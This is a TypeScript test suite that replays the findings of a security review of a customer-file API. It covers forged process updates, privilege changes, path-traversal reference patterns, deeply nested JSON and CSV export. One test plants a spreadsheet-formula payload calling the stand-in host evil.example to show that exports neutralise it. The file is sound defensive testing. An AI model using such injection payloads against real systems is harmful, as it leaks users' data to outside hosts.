import { expect } from "chai";
import type { ApiServer } from "../api/v2/server.js";
import { demoCandidate, newCustomerFile, startDossierServer, until } from "./support.js";

/** Findings of the security review of the customer-file API, each reproduced as it was reported. */
describe("review findings of the customer-file API", () => {
  let api: ApiServer;
  let candidate: string;
  let cvId: number;
  before(async () => {
    api = await startDossierServer();
    ({ reference: candidate, cvId } = await demoCandidate(api));
  });
  after(() => api.stop());

  const incidentOf = (processInstanceKey: string) =>
    until(async () => (await api.call("POST", "/v2/incidents/search", { as: "demo", body: { filter: { processInstanceKey } } })).body.items[0], `an incident of ${processInstanceKey}`);

  it("should not let dossier.update act on a dossier its process was not started for", async () => {
    // A designer (no sector) deploys a model that updates whatever dossier its variables name, and starts it through /v2.
    const form = new FormData();
    form.append("resources", new Blob([`<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:zeebe="http://camunda.org/schema/zeebe/1.0" id="d" targetNamespace="x">
  <bpmn:process id="evil-update" isExecutable="true">
    <bpmn:startEvent id="s"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:serviceTask id="u"><bpmn:extensionElements><zeebe:taskDefinition type="dossier.update" /></bpmn:extensionElements><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f2</bpmn:outgoing></bpmn:serviceTask>
    <bpmn:endEvent id="e"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>
    <bpmn:sequenceFlow id="f1" sourceRef="s" targetRef="u" /><bpmn:sequenceFlow id="f2" sourceRef="u" targetRef="e" />
  </bpmn:process>
</bpmn:definitions>`], { type: "application/xml" }), "evil.bpmn");
    const deployed = await fetch(`${api.base}/v2/deployments`, { method: "POST", headers: { authorization: `Basic ${Buffer.from("designer:designer").toString("base64")}` }, body: form });
    expect(deployed.status).to.equal(200);
    const started = await api.call("POST", "/v2/process-instances", { as: "designer", body: { processDefinitionId: "evil-update", variables: { dossierRef: candidate, state: "refuse", note: "forged", notePublic: true } } });
    const incident = await incidentOf(started.body.processInstanceKey);
    expect(incident.errorMessage).to.contain("started from a dossier");
    const view = await api.call("GET", `/api/dossiers/${candidate}`, { as: "manager" });
    expect(view.body.state).to.equal("candidature");
  });

  it("should refuse action variables the action does not declare (they would steer its dossier.update)", async () => {
    const forged = await api.call("POST", "/api/dossiers/CLI-2026-00001/actions/nouveau-contrat", { as: "agent", body: { variables: { documentId: cvId, state: "clos", note: "forged", notePublic: true } } });
    expect(forged.status).to.equal(400);
    expect(forged.body.detail).to.contain("produit").and.contain("'documentId'");
    expect((await api.call("GET", `/api/documents/${cvId}`, { as: "agent" })).status).to.equal(404);
    expect((await api.call("POST", "/api/dossiers/CLI-2026-00001/actions/nouveau-contrat", { as: "agent", body: { variables: { produit: "prevoyance" } } })).status).to.equal(201);
  });

  it("should keep owner and sector changes with the dossier's sector, to existing users and sectors", async () => {
    const task = (await api.call("GET", `/api/dossiers/${candidate}`, { as: "manager" })).body.tasks[0];
    await api.call("POST", `/v2/user-tasks/${task.userTaskKey}/assignment`, { as: "manager", body: { assignee: "agent" } });
    const version = (await api.call("GET", `/api/dossiers/${candidate}`, { as: "agent" })).body.version;
    const takeover = await api.call("PATCH", `/api/dossiers/${candidate}`, { as: "agent", body: { version, owner: "agent", sector: "agents" } });
    expect(takeover.status).to.equal(403);
    const nowhere = await api.call("PATCH", "/api/dossiers/DEM-2026-00002", { as: "agent", body: { version: 1, owner: "nobody-like-this", sector: "no-such-sector" } });
    expect(nowhere.status).to.equal(400);
    expect(nowhere.body.problems.map((p: any) => p.field)).to.have.members(["owner", "sector"]);
    const orphan = await api.call("POST", "/api/dossiers", { as: "agent", body: { ...newCustomerFile("Orphelin SARL", "contact@orphelin.fr"), sector: null, owner: "designer" } });
    expect(orphan.status).to.equal(400);
    expect(orphan.body.problems.map((p: any) => p.field)).to.deep.equal(["sector"]);
  });

  it("should journal task outcomes as private entries", async () => {
    const { body: created } = await api.call("POST", "/api/dossiers", { as: "manager", body: { type: "candidat", title: "Candidat privé", sector: "recrutement", data: { poste: "Assistant" }, parties: [{ role: "candidate", party: { kind: "person", lastName: "Privé", firstName: "Paul", emails: ["paul.prive@example.fr"] } }] } });
    const task = await until(async () => (await api.call("GET", `/api/dossiers/${created.reference}`, { as: "manager" })).body.tasks[0], "the study task");
    await api.call("POST", `/v2/user-tasks/${task.userTaskKey}/assignment`, { as: "manager", body: { assignee: "manager" } });
    await api.call("POST", `/v2/user-tasks/${task.userTaskKey}/completion`, { as: "manager", body: { variables: { shortlisted: false, evaluation: "confidentiel" } } });
    const entry = await until(async () => (await api.call("GET", `/api/dossiers/${created.reference}/journal`, { as: "manager" })).body.items.find((e: any) => e.action === "task.completed"), "the entry");
    expect(entry.private).to.equal(true);
  });

  it("should refuse a reference pattern another type's references could collide with, and pattern characters unsafe in URLs", async () => {
    const base = (await api.call("GET", "/api/dossier-types/client", { as: "designer" })).body;
    const { id: _id, version: _v, ...clone } = base;
    const twin = await api.call("PUT", "/api/dossier-types/clone", { as: "designer", body: { ...clone, catalogue: {} } });
    expect(twin.status).to.equal(400);
    expect(twin.body.detail).to.contain("'client'");
    const slash = await api.call("PUT", "/api/dossier-types/slash", { as: "designer", body: { ...clone, referencePattern: "../{0000}", catalogue: {} } });
    expect(slash.status).to.equal(400);
    expect(slash.body.problems.map((p: any) => p.field)).to.deep.equal(["referencePattern"]);
  });

  it("should answer 400, not 500, to deeply nested JSON", async () => {
    const deep = "[".repeat(5000) + "]".repeat(5000);
    const res = await fetch(`${api.base}/api/dossiers`, { method: "POST", headers: { authorization: `Basic ${Buffer.from("agent:agent").toString("base64")}`, "content-type": "application/json" }, body: `{"type":"client","title":"x","data":{"segment":${deep}}}` });
    expect(res.status).to.equal(400);
  });

  it("should neutralise spreadsheet formulas in exports", async () => {
    const { body: created } = await api.call("POST", "/api/dossiers", { as: "agent", body: { ...newCustomerFile("Formule SARL", "contact@formule.fr"), title: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")' } });
    const csv = await fetch(`${api.base}/api/dossiers/export?format=csv&columns=reference,title`, { headers: { authorization: `Basic ${Buffer.from("agent:agent").toString("base64")}` } });
    const line = (await csv.text()).split(/\r?\n/).find((l) => l.startsWith(created.reference))!;
    expect(line).to.contain(`;"'=HYPERLINK(`);
  });

  it("should page the exchanges in SQL and refuse a fractional limit", async () => {
    const { body: created } = await api.call("POST", "/api/dossiers", { as: "agent", body: newCustomerFile("Pagination SARL", "contact@pagination.fr") });
    for (const text of ["un", "deux"]) await api.call("POST", `/api/dossiers/${created.reference}/notes`, { as: "agent", body: { text } });
    const first = await api.call("GET", `/api/dossiers/${created.reference}/journal?kind=exchanges&limit=1`, { as: "agent" });
    expect(first.body.items.map((e: any) => e.after.text)).to.deep.equal(["deux"]);
    const second = await api.call("GET", `/api/dossiers/${created.reference}/journal?kind=exchanges&limit=1&before=${first.body.next}`, { as: "agent" });
    expect(second.body.items.map((e: any) => e.after.text)).to.deep.equal(["un"]);
    expect((await api.call("GET", `/api/dossiers/${created.reference}/journal?limit=1.5`, { as: "agent" })).status).to.equal(400);
  });

  it("should answer 422 when an Idempotency-Key comes back with another request", async () => {
    const headers = { "idempotency-key": "reuse-check-1" };
    expect((await api.call("POST", "/api/dossiers", { as: "agent", body: newCustomerFile("Première SARL", "contact@premiere.fr"), headers })).status).to.equal(201);
    const other = await api.call("POST", "/api/dossiers", { as: "agent", body: newCustomerFile("Seconde SARL", "contact@seconde.fr"), headers });
    expect(other.status).to.equal(422);
  });

  it("should refuse a type evolution that drops a choice or a party role dossiers still use, and a wrong maxLength", async () => {
    const base = (await api.call("GET", "/api/dossier-types/client", { as: "designer" })).body;
    const { id: _id, version: _v, ...def } = base;
    const noPro = { ...def, fields: def.fields.map((f: any) => (f.id === "segment" ? { ...f, options: f.options.filter((o: any) => o.value !== "professionnel") } : f)) };
    const dropped = await api.call("PUT", "/api/dossier-types/client", { as: "designer", body: noPro });
    expect(dropped.status).to.equal(400);
    expect(dropped.body.detail).to.contain("'professionnel'");
    const noRole = await api.call("PUT", "/api/dossier-types/client", { as: "designer", body: { ...def, partyRoles: def.partyRoles.filter((r: any) => r.id !== "decisionMaker") } });
    expect(noRole.status).to.equal(400);
    expect(noRole.body.detail).to.contain("'decisionMaker'");
    const badLength = await api.call("PUT", "/api/dossier-types/client", { as: "designer", body: { ...def, fields: def.fields.map((f: any) => (f.id === "siret" ? { ...f, maxLength: "abc" } : f)) } });
    expect(badLength.status).to.equal(400);
    expect(badLength.body.problems.map((p: any) => p.field)).to.deep.equal(["fields[2].maxLength"]);
  });
});
